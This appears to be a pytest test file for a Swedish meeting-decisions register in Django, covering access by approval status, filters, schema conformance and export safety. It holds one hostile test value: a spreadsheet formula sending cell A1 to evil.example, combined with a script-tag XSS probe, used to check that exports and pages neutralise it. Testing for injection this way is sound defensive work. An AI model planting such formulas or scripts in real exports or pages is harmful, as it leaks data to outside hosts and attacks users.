"""The decisions register at /beslut/ and its open data: the public sees approved minutes only,
members see everything with the unapproved marked, and hostile text stays inert everywhere."""

import csv
import datetime
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import jsonschema
import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from meetings.models import Decision, Meeting
from meetings.models.meeting import Status

URL = reverse("meetings:decisions")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka") <script>alert(1)</script>'
README = Path(__file__).resolve().parents[2] / "README.md"


def approved_with(meeting, **changes):
    """Change the draft's decision, then approve the minutes (approved ones are frozen)."""
    Decision.objects.filter(meeting=meeting).update(**changes)
    Meeting.objects.filter(pk=meeting.pk).update(status=Status.APPROVED, approved_at=timezone.now())
    meeting.refresh_from_db()
    return meeting


def _file(client, fmt, query=""):
    response = client.get(reverse("meetings:decisions_file", args=[fmt]) + query)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    return response.content


def _json(client, query=""):
    return json.loads(_file(client, "json", query))


def documented_schema(title):
    """The JSON Schema the README publishes under the given heading (a ```json block)."""
    text = README.read_text(encoding="utf-8")
    section = text.split(f"### {title}", 1)[1]
    block = re.search(r"```json\n(.*?)```", section, re.S)[1]
    return json.loads(block)


def test_outsider_sees_only_decisions_from_approved_minutes(client, sent_minutes, approved_minutes):
    page = client.get(URL).content.decode()

    assert f"§&nbsp;{approved_minutes.decisions.get().number}/2025" in page
    assert "Ej justerat" not in page
    assert [d["label"] for d in _json(client)] == [str(approved_minutes.decisions.get())]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_public_exports_never_show_a_decision_from_unapproved_minutes(
    client, sent_minutes, approved_minutes, fmt
):
    Decision.objects.filter(meeting=sent_minutes).update(text="Hemligt utkastbeslut")

    data = _file(client, fmt)

    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        data = " ".join(str(c.value) for row in sheet.iter_rows() for c in row).encode()
    assert b"Hemligt utkastbeslut" not in data
    assert "fira överenskommelsen".encode() in data


def test_member_sees_every_decision_with_the_unapproved_marked(
    client_for, member, sent_minutes, approved_minutes
):
    page = client_for(member).get(URL).content.decode()

    assert page.count("Ej justerat") == 1
    assert f"/moten/{sent_minutes.pk}/#beslut-" in page
    assert f"/protokoll/{approved_minutes.pk}/#beslut-" in page
    records = _json(client_for(member))
    assert {r["label"]: r["approved"] for r in records} == {
        str(sent_minutes.decisions.get()): False,
        str(approved_minutes.decisions.get()): True,
    }


def test_member_filters_by_year_area_budget_line_and_text(
    client_for, member, sent_minutes, draft_minutes
):
    from budget.models import BudgetLine, BudgetYear

    line = BudgetLine.objects.create(
        budget_year=BudgetYear.objects.create(year=2025, allocation=Decimal(1)),
        name="Dialogmöten",
        amount=Decimal(1),
    )
    approved_with(
        draft_minutes,
        text="Frivilligdagen beviljades 25 000 kr per delregion.",
        amount=Decimal("100000"),
        budget_line=line,
    )
    client = client_for(member)

    assert [r["text"] for r in _json(client, "?budgetpost=Dialogmöten")] == [
        "Frivilligdagen beviljades 25 000 kr per delregion."
    ]
    assert len(_json(client, "?q=frivilligdagen")) == 1
    assert len(_json(client, "?ar=2025")) == 2
    assert _json(client, "?ar=1999") == []
    page = client.get(URL + "?budgetpost=Dialogmöten").content.decode()
    assert "100\u00a0000 kr" in page
    assert "Inga beslut matchar urvalet." in client.get(URL + "?q=finnsinte").content.decode()


def test_the_empty_register_says_so_in_swedish(client, db):
    assert "Det finns inga beslut att visa ännu." in client.get(URL).content.decode()


def test_json_matches_the_schema_documented_in_the_readme(client, draft_minutes):
    approved_with(draft_minutes, amount=Decimal("25000.50"))

    records = _json(client)

    jsonschema.validate(records, documented_schema("Beslut (beslut.json)"))
    assert records[0]["date"] == "2025-12-05"
    assert records[0]["amount"] == "25000.50"


def test_action_items_json_matches_the_documented_schema(client_for, member, draft_minutes):
    response = client_for(member).get(reverse("meetings:action_items_file", args=["json"]))

    records = json.loads(response.content)
    jsonschema.validate(records, documented_schema("Uppdrag (uppdrag.json)"))
    assert records[0]["owners"] == ["Kerstin Söderberg"]
    assert records[0]["due_date"] == "2026-02-03"


@pytest.fixture
def hostile(draft_minutes):
    draft_minutes.action_items.update(text=HOSTILE)
    approved_with(draft_minutes, text=HOSTILE)
    return HOSTILE


@pytest.mark.parametrize("url_name", ["meetings:decisions_file", "meetings:action_items_file"])
def test_hostile_text_is_inert_in_csv(client_for, member, hostile, url_name):
    data = client_for(member).get(reverse(url_name, args=["csv"])).content.decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(data), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + hostile in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


@pytest.mark.parametrize("url_name", ["meetings:decisions_file", "meetings:action_items_file"])
def test_hostile_text_is_inert_in_xlsx(client_for, member, hostile, url_name):
    data = client_for(member).get(reverse(url_name, args=["xlsx"])).content

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + hostile in [cell.value for cell in cells]


@pytest.mark.parametrize("url_name", ["meetings:decisions_file", "meetings:action_items_file"])
def test_hostile_text_is_plain_data_in_json(client_for, member, hostile, url_name):
    response = client_for(member).get(reverse(url_name, args=["json"]))

    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert hostile in [r["text"] for r in json.loads(response.content)]


def test_hostile_text_is_escaped_on_the_page(client, hostile):
    page = client.get(URL).content.decode()

    assert "<script>alert(1)" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_an_unknown_format_is_404(client, db):
    assert client.get("/beslut/beslut.pdf").status_code == 404


def test_outsider_gets_404_for_the_action_items_export(client_for, outsider, draft_minutes):
    assert client_for(outsider).get("/uppdrag/uppdrag.json").status_code == 404


def test_the_register_is_linked_from_the_navigation_and_every_meeting_page(
    client, client_for, member, approved_minutes
):
    assert 'href="/beslut/"' in client.get("/").content.decode()
    public = client.get(reverse("meetings:public_minutes_detail", args=[approved_minutes.pk]))
    assert 'href="/beslut/?ar=2025"' in public.content.decode()
    portal = client_for(member).get(reverse("meetings:meeting_detail", args=[approved_minutes.pk]))
    assert 'href="/beslut/?ar=2025"' in portal.content.decode()


def test_member_sees_overdue_action_items_first_and_marked(client_for, member, draft_minutes):
    draft_minutes.action_items.update(due_date=timezone.localdate() + datetime.timedelta(days=30))
    late = draft_minutes.action_items.create(
        text="Skicka inbjudan till dialogmötet.", due_date=datetime.date(2025, 1, 10)
    )

    page = client_for(member).get(reverse("meetings:action_items")).content.decode()

    assert page.index(late.text) < page.index("Utreda intresset")
    assert page.count("Försenat</span>") == 1
    records = json.loads(client_for(member).get("/uppdrag/uppdrag.json").content)
    assert [(r["id"], r["overdue"]) for r in records][0] == (late.pk, True)


def test_a_decision_pasted_from_word_with_its_line_break_character_still_exports_to_xlsx(
    client_for, adjuster, member, draft_minutes
):
    # Word writes a manual line break as a vertical tab; XLSX cannot hold that character.
    decision = draft_minutes.decisions.get()
    url = reverse("meetings:edit_item", args=["beslut", decision.pk])
    saved = client_for(adjuster).post(
        url, {"text": "RÖS-gruppen beslutade att\x0bfira överenskommelsen.", "version": 1}
    )
    assert saved.status_code == 302

    sheet = openpyxl.load_workbook(io.BytesIO(_file(client_for(member), "xlsx"))).active

    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "RÖS-gruppen beslutade att fira överenskommelsen." in values
